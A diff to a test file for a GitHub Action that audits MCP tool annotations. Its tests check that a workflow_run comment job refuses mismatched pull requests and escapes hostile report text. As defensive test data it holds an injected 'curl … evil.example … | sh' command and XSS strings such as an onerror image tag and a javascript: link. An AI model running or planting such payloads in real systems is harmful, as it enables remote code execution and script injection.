@@ -3,7 +3,7 @@ import { copyFile, mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
 import { delimiter, join } from 'node:path';
 import { promisify } from 'node:util';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { pullRequestEvent, runAction, TOKEN } from './support/action.js';
+import { pullRequestEvent, runAction, TOKEN, workflowRunEvent } from './support/action.js';
 import {
   counted,
   EXAMPLE,
@@ -20,11 +20,14 @@ import {
 import {
   COMMENT_BODY_LIMIT,
   DEFAULT_BASE_SHA,
+  DEFAULT_HEAD_SHA,
   startGitHubApi,
   type FakeGitHub,
 } from './support/github-api.js';
 
 const MARKER = '<!-- mcp-annotation-auditor:notes -->';
+/** The marker of a run with policies: claude, as most runs here are (not the default policies). */
+const CLAUDE_MARKER = '<!-- mcp-annotation-auditor:notes policies=claude -->';
 const exec = promisify(execFile);
 type Spec = Awaited<ReturnType<typeof notesSpec>>;
 
@@ -108,7 +111,7 @@ describe('the action, run as GitHub runs it', () => {
     expect(api.commentsOn(1)).toHaveLength(1);
     const comment = api.commentsOn(1)[0];
     expect(first.outputs['comment-id']).toBe(String(comment?.id));
-    expect(comment?.body.startsWith(MARKER)).toBe(true);
+    expect(comment?.body.startsWith(CLAUDE_MARKER)).toBe(true);
     expect(comment?.body).toContain(
       '| add\\_note | changed | edit → **read** | closed | readOnlyHint: `false` → `true` |',
     );
@@ -329,7 +332,7 @@ describe('the action, run as GitHub runs it', () => {
       { name: 'img', annotations: { title: '<img src=x onerror=alert(1)>', readOnlyHint: true } },
       { name: 'mention', annotations: { title: '@some-org/team please look', readOnlyHint: true } },
       { name: 'link', annotations: { title: '[x](javascript:alert(1))', readOnlyHint: true } },
-      { name: 'marker', annotations: { title: `${MARKER} forged`, readOnlyHint: true } },
+      { name: 'marker', annotations: { title: `${CLAUDE_MARKER} forged`, readOnlyHint: true } },
       { name: 'long', annotations: { title: 'A'.repeat(20_000), readOnlyHint: true } },
     ];
     const { dir } = await workspace(api, { name: 'notes', tools: [] });
@@ -345,8 +348,8 @@ describe('the action, run as GitHub runs it', () => {
     expect(body).not.toMatch(/@some-org/);
     expect(body).not.toMatch(/(?<!\\)\]\(javascript:/);
     expect(body).not.toContain('`c`');
-    expect(body.split(MARKER)).toHaveLength(2);
-    expect(body.indexOf(MARKER)).toBe(0);
+    expect(body.split(CLAUDE_MARKER)).toHaveLength(2);
+    expect(body.indexOf(CLAUDE_MARKER)).toBe(0);
     expect(body).not.toContain('A'.repeat(200));
     // Every row of each table has as many cells as its header.
     for (const table of body.split(/\n\n/).filter((b) => b.startsWith('| '))) {
@@ -746,6 +749,7 @@ describe('the action, run as GitHub runs it', () => {
       inputs: {
         command: quote(['node', join(SERVERS, 'exit-at-once.mjs')]),
         'server-name': 'notes',
+        policies: 'claude',
       },
     });
     expect(broken.code).toBe(1);
@@ -802,7 +806,7 @@ describe('the action, run as GitHub runs it', () => {
       workspace: trusted,
       apiUrl: api.url,
       eventName: 'workflow_run',
-      event: { action: 'completed', workflow_run: { id: 1 } },
+      event: workflowRunEvent(),
       inputs: { 'report-file': audit.outputs.report ?? '', 'pr-number': '1' },
     });
     expect(run.code, run.stdout).toBe(0);
@@ -961,8 +965,241 @@ describe('the action, run as GitHub runs it', () => {
     expect(sarif.runs[0]?.tool.driver.rules.map((r) => r.id)).toContain('hint-dropped');
   });
 
+  describe('report-file: the workflow_run comment job trusts the event, never the artifact', () => {
+    /** The PR's own run, which comments nothing: the path of the report it wrote. */
+    async function prRun(server: Spec, record: boolean, inputs: Record<string, string> = {}) {
+      const { dir } = await workspace(api, spec);
+      const command = await specServer(dir, 'pr.json', server);
+      if (record) await recordAtHead(dir, command);
+      const run = await runAction({
+        workspace: dir,
+        apiUrl: api.url,
+        inputs: { command: quote(command), policies: 'claude', comment: 'never', ...inputs },
+      });
+      expect(run.outputs.report, run.stdout).toBeTruthy();
+      return { run, dir, report: run.outputs.report ?? '' };
+    }
+    /** The trusted job: no checkout, the report downloaded, the event GitHub gives it. */
+    async function commentJob(
+      report: string,
+      event: Record<string, unknown> = workflowRunEvent(),
+      inputs: Record<string, string> = {},
+    ) {
+      return runAction({
+        workspace: await tempDir(),
+        apiUrl: api.url,
+        eventName: 'workflow_run',
+        event,
+        inputs: { 'report-file': report, ...inputs },
+      });
+    }
+    const writes = () => api.requests.filter((r) => r.method === 'POST' || r.method === 'PATCH');
+
+    it('comments only on the open PR whose head the triggering run audited; an issue, a closed PR, another head or repository, or a pr-number the event disagrees with is refused and nothing is written', async () => {
+      await api.close();
+      const other = '0123456789abcdef0123456789abcdef01234567';
+      api = await startGitHubApi({
+        token: TOKEN,
+        pulls: {
+          1: { baseSha: DEFAULT_BASE_SHA, headSha: DEFAULT_HEAD_SHA },
+          2: { baseSha: DEFAULT_BASE_SHA, headSha: other },
+          3: { baseSha: DEFAULT_BASE_SHA, headSha: DEFAULT_HEAD_SHA, state: 'closed' },
+          4: {
+            baseSha: DEFAULT_BASE_SHA,
+            headSha: DEFAULT_HEAD_SHA,
+            headRepository: 'contributor/octo-repo',
+          },
+        },
+        issues: [5],
+        comments: [
+          {
+            issueNumber: 2,
+            body: `${CLAUDE_MARKER}\n### ❌ MCP tool annotations for \`notes\`: failed`,
+          },
+        ],
+      });
+      const { report } = await prRun(relaxAddNote(spec), true);
+      const unlisted = workflowRunEvent({ pulls: [] });
+      const refused: [Record<string, unknown>, string | undefined, string][] = [
+        [
+          unlisted,
+          '2',
+          "PR #2's head is 0123456789ab, but the run that wrote the report audited e5bd3914e2e5 (workflow_run.head_sha)",
+        ],
+        [unlisted, '3', 'PR #3 is closed'],
+        [
+          unlisted,
+          '5',
+          '#5 is not a pull request of octo-org/octo-repo (an issue, or no such number)',
+        ],
+        [
+          workflowRunEvent(),
+          '2',
+          'Input "pr-number" is 2, but the workflow_run that started this job is for PR #1.',
+        ],
+        [
+          workflowRunEvent({ pulls: [], headRepository: 'mallory/octo-repo' }),
+          '4',
+          "PR #4's head is in contributor/octo-repo, but the run that wrote the report audited mallory/octo-repo",
+        ],
+        [unlisted, undefined, 'The workflow_run event names no pull request'],
+        [{ action: 'completed', workflow_run: { id: 1 } }, '1', 'names no such run'],
+      ];
+      for (const [event, pr, message] of refused) {
+        const run = await commentJob(report, event, pr !== undefined ? { 'pr-number': pr } : {});
+        expect(run.code, message).toBe(1);
+        expect(run.outputs.result).toBe('error');
+        expect(run.stdout).toMatch(/^::error::/m);
+        expect(run.stdout).toContain(message);
+        expect(run.stdout).toContain('Nothing was written to any pull request.');
+      }
+      expect(writes()).toEqual([]);
+      expect(api.commentsOn(2)[0]?.body).toContain('failed');
+      expect(api.commentsOn(5)).toEqual([]);
+      // The PR the event names, and a fork's PR (not listed by workflow_run) by pr-number.
+      const listed = await commentJob(report);
+      expect(listed.code, listed.stdout).toBe(0);
+      expect(api.commentsOn(1)).toHaveLength(1);
+      const fork = await commentJob(
+        report,
+        workflowRunEvent({ pulls: [], headRepository: 'contributor/octo-repo' }),
+        { 'pr-number': '4' },
+      );
+      expect(fork.code, fork.stdout).toBe(0);
+      expect(api.commentsOn(4)[0]?.body).toContain('edit → **read**');
+    });
+
+    it("never takes the update command from the report: it is built from this job's inputs, or said in words", async () => {
+      const { report } = await prRun(relaxAddNote(spec), true);
+      const json = JSON.parse(await readFile(report, 'utf8')) as Record<string, unknown>;
+      json.updateCommand =
+        'npx mcp-annotation-auditor update && curl -s https://evil.example/x | sh';
+      await writeFile(report, JSON.stringify(json));
+      const words = await commentJob(report);
+      expect(words.code, words.stdout).toBe(0);
+      const body = api.commentsOn(1)[0]?.body ?? '';
+      expect(body).not.toContain('curl');
+      expect(body).not.toContain('evil');
+      expect(body).toContain(
+        "To accept a change, run `npx mcp-annotation-auditor@0.1.0 update` with the server's command line (after `--`) or config file, as the PR's workflow audits it, and commit the file",
+      );
+      // Told the server's command (the step never runs it), the comment gives the whole line.
+      await commentJob(report, workflowRunEvent(), { command: 'node dist/server.js' });
+      expect(api.commentsOn(1)[0]?.body).toContain(
+        'To accept a change, run `npx mcp-annotation-auditor update -- node dist/server.js` and commit the file',
+      );
+    });
+
+    it('an audit that could not run still writes its report; the comment job marks the comment failed from it, and passes', async () => {
+      const { dir, report } = await prRun(relaxAddNote(spec), true, { 'server-name': 'notes' });
+      expect((await commentJob(report)).code).toBe(0);
+      expect(api.commentsOn(1)[0]?.body).toContain('✅ MCP tool annotations for `notes`: passed');
+      const broken = await runAction({
+        workspace: dir,
+        apiUrl: api.url,
+        inputs: {
+          command: quote(['node', join(SERVERS, 'exit-at-once.mjs')]),
+          'server-name': 'notes',
+          policies: 'claude',
+          comment: 'never',
+        },
+      });
+      expect(broken.code).toBe(1);
+      expect(broken.outputs.result).toBe('error');
+      const written = JSON.parse(await readFile(broken.outputs.report ?? '', 'utf8')) as {
+        error: string;
+      };
+      expect(written).toMatchObject({
+        schemaVersion: 1,
+        mode: 'check',
+        result: 'error',
+        policies: ['claude'],
+        servers: [{ server: 'notes', era: 'legacy' }],
+        tools: [],
+        findings: [],
+      });
+      expect(written.error).toContain('fatal: missing config');
+      const marked = await commentJob(broken.outputs.report ?? '');
+      expect(marked.code, marked.stdout).toBe(0);
+      expect(marked.outputs.result).toBe('error');
+      expect(marked.summary).toContain("### MCP tool annotations: the PR's audit could not run");
+      expect(api.commentsOn(1)).toHaveLength(1);
+      const body = api.commentsOn(1)[0]?.body ?? '';
+      expect(body.startsWith(CLAUDE_MARKER)).toBe(true);
+      expect(body).toContain('❌ MCP tool annotations for `notes`: the audit could not run');
+      expect(body).toContain('fatal: missing config');
+    });
+
+    it("passes when the report failed: the comment turns red, and the PR's own run is the check that fails", async () => {
+      const { run, report } = await prRun(dropDestructive(spec), false);
+      expect(run.code).toBe(1);
+      const job = await commentJob(report);
+      expect(job.code, job.stdout).toBe(0);
+      expect(job.outputs.result).toBe('failed');
+      expect(job.stdout).not.toMatch(/^::error::/m);
+      const body = api.commentsOn(1)[0]?.body ?? '';
+      expect(body).toContain('❌ MCP tool annotations for `notes`: failed');
+      expect(body).toContain('`hint-dropped`');
+    });
+
+    it("escapes the report's texts in the job summary too: a server name renders no HTML and mentions no one", async () => {
+      const { report } = await prRun(relaxAddNote(spec), true);
+      const hostile = '<img src=x onerror=alert(1)> @octo-org/security';
+      const text = (await readFile(report, 'utf8')).replace(/"server": "notes"/g, () =>
+        JSON.stringify({ server: hostile }).slice(1, -1),
+      );
+      expect(text).toContain('<img');
+      await writeFile(report, text);
+      const job = await commentJob(report);
+      expect(job.code, job.stdout).toBe(0);
+      expect(job.summary).toContain(
+        'Comment for &lt;img src=x onerror=alert(1)&gt; @\u2060octo-org/security: created',
+      );
+      expect(job.summary).not.toMatch(/<img/i);
+      expect(job.summary).not.toContain('@octo-org');
+      // In the comment, only inside the heading's code span, where it is shown as it is.
+      const body = api.commentsOn(1)[0]?.body ?? '';
+      expect(body.split('<img')).toHaveLength(2);
+      expect(body).toContain(`for \`${hostile}\`: passed`);
+    });
+
+    it('two configurations of one server (a matrix over policies) keep a comment each; a default run keeps the plain marker', async () => {
+      const { dir } = await workspace(api, spec);
+      const dropped = quote(await specServer(dir, 'dropped.json', dropDestructive(spec)));
+      // A comment from before markers told runs apart: the default run's own.
+      const old = api.seedComment({
+        body: `${MARKER}\n### ✅ MCP tool annotations for \`notes\`: passed`,
+      });
+      const byDefault = await runAction({
+        workspace: dir,
+        apiUrl: api.url,
+        inputs: { command: dropped },
+      });
+      const claude = await runAction({
+        workspace: dir,
+        apiUrl: api.url,
+        inputs: { command: dropped, policies: 'claude' },
+      });
+      expect(byDefault.outputs['comment-id']).toBe(String(old.id));
+      const comments = api.commentsOn(1);
+      expect(comments.map((c) => c.body.split('\n')[0])).toEqual([MARKER, CLAUDE_MARKER]);
+      expect(claude.outputs['comment-id']).toBe(String(comments[1]?.id));
+      expect(comments.every((c) => c.body.includes('`notes`: failed'))).toBe(true);
+      // Each run again, and the comment job from the claude run's report: each finds its own.
+      const again = await runAction({
+        workspace: dir,
+        apiUrl: api.url,
+        inputs: { command: dropped, policies: 'claude', 'protocol-era': 'legacy' },
+      });
+      expect(again.outputs['comment-id']).toBe(String(comments[1]?.id));
+      const job = await commentJob(claude.outputs.report ?? '');
+      expect(job.outputs['comment-id']).toBe(String(comments[1]?.id));
+      expect(api.commentsOn(1)).toHaveLength(2);
+    });
+  });
+
   describe('found by a fault-injection pass', () => {
-    it("report-file: the class list path and the PR run's update command reach the comment only as code; a long description is read back", async () => {
+    it('report-file: the class list path reaches the comment only as code; a long description is read back', async () => {
       const { dir } = await workspace(api, spec);
       const relaxed = await specServer(
         dir,
@@ -992,7 +1229,7 @@ describe('the action, run as GitHub runs it', () => {
         workspace: trusted,
         apiUrl: api.url,
         eventName: 'workflow_run',
-        event: { action: 'completed', workflow_run: { id: 1 } },
+        event: workflowRunEvent(),
         inputs: { 'report-file': path, 'pr-number': '1' },
       });
       expect(run.code, run.stdout).toBe(0);
@@ -1000,11 +1237,7 @@ describe('the action, run as GitHub runs it', () => {
       // One code span from the first backtick to the last: no mention, image, link or marker.
       expect(body).toMatch(/live in `x {2}@octo-org\/security <img src=x> \[phish\][^`]* {2}y`\./);
       // The forged marker is inside that span; ours still opens the comment.
-      expect(body.startsWith(MARKER)).toBe(true);
-      // How to accept the change is the PR run's own command, not this job's (it has none).
-      expect(body).toContain(
-        `run \`npx mcp-annotation-auditor@0.1.0 update -- ${relaxed.join(' ')}\``,
-      );
+      expect(body.startsWith(CLAUDE_MARKER)).toBe(true);
     });
 
     it('a server that cannot start marks the comment of the server the class list records, without server-name', async () => {
@@ -1020,7 +1253,7 @@ describe('the action, run as GitHub runs it', () => {
       const broken = await runAction({
         workspace: dir,
         apiUrl: api.url,
-        inputs: { command: quote(['node', join(SERVERS, 'exit-at-once.mjs')]) },
+        inputs: { command: quote(['node', join(SERVERS, 'exit-at-once.mjs')]), policies: 'claude' },
       });
       expect(broken.code).toBe(1);
       expect(api.commentsOn(1)).toHaveLength(1);
